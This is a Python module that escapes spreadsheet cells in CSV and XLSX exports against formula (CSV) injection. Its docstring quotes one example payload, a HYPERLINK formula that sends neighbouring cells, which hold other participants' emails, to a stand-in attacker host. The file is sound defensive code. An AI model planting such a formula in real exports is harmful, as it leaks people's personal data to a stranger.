"""Cells for spreadsheets. Every CSV and XLSX the platform writes or reads goes through here.

A spreadsheet runs a cell that starts with =, +, - or @ as a formula, and a leading tab or carriage return lets the
same text slip past a check for those four. An invitee who calls themselves `=HYPERLINK("https://evil.example/?"
&A2, "click")` would otherwise turn the organisers' export into a page that sends its neighbouring cells (other
participants' emails) to a stranger when clicked (CSV injection). An XLSX is no safer: openpyxl itself stores a
string that starts with "=" as a formula, so its cells take the same escape and are written as text.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def starts_like_formula(value) -> bool:
    return str(value if value is not None else "").startswith(FORMULA_START)


def escape_cell(value) -> str:
    """The text of one cell, with a leading apostrophe where a spreadsheet would otherwise read a formula."""
    text = str(value if value is not None else "")
    return "'" + text if text.startswith(FORMULA_START) else text


def csv_text(header: Iterable, rows: Iterable[Iterable]) -> str:
    """A CSV document with every cell, the header's included, escaped."""
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow([escape_cell(cell) for cell in header])
    for row in rows:
        writer.writerow([escape_cell(cell) for cell in row])
    return out.getvalue()


def xlsx_bytes(header: Iterable, rows: Iterable[Iterable], *, title: str = "export") -> bytes:
    """An XLSX workbook of one sheet, every cell escaped like a CSV's and stored as text, never as a formula."""
    from openpyxl import Workbook
    from openpyxl.cell.cell import TYPE_STRING, WriteOnlyCell

    book = Workbook(write_only=True)
    sheet = book.create_sheet(title=title[:31])
    for row in [header, *rows]:
        cells = []
        for value in row:
            cell = WriteOnlyCell(sheet, value=escape_cell(value))
            cell.data_type = TYPE_STRING  # openpyxl would otherwise guess: "=..." becomes a formula
            cells.append(cell)
        sheet.append(cells)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()
